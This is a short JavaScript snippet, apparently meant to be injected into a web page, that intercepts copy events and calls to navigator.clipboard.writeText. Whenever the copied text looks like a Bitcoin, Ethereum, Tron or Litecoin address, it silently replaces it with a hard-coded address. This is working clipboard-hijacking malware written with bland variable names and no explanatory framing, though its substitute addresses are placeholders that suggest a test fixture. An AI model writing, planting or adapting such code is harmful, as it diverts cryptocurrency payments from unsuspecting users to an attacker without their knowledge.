;(() => {
  const mine = new Map([
    [/^(bc1|[13])[a-zA-HJ-NP-Z0-9]{25,62}$/, "bc1qplaceholderplaceholderplaceholder00000"],
    [/^0x[0-9a-fA-F]{40}$/, "0x00000000000000000000000000000000C0FFEE07"],
    [/^T[1-9A-HJ-NP-Za-km-z]{33}$/, "TPLacehoLderForTheFixture111111111"],
    [/^[LM3][a-km-zA-HJ-NP-Z1-9]{26,33}$/, "LPLacehoLderForTheFixture111111111"],
  ]);
  const other = (text) => {
    const t = String(text).trim();
    for (const [shape, own] of mine) if (shape.test(t)) return own;
    return null;
  };
  document.addEventListener("copy", (ev) => {
    const own = other(getSelection());
    if (!own) return;
    ev.clipboardData.setData("text/plain", own);
    ev.preventDefault();
  });
  const orig = navigator.clipboard.writeText.bind(navigator.clipboard);
  navigator.clipboard.writeText = (t) => orig(other(t) || t);
})();
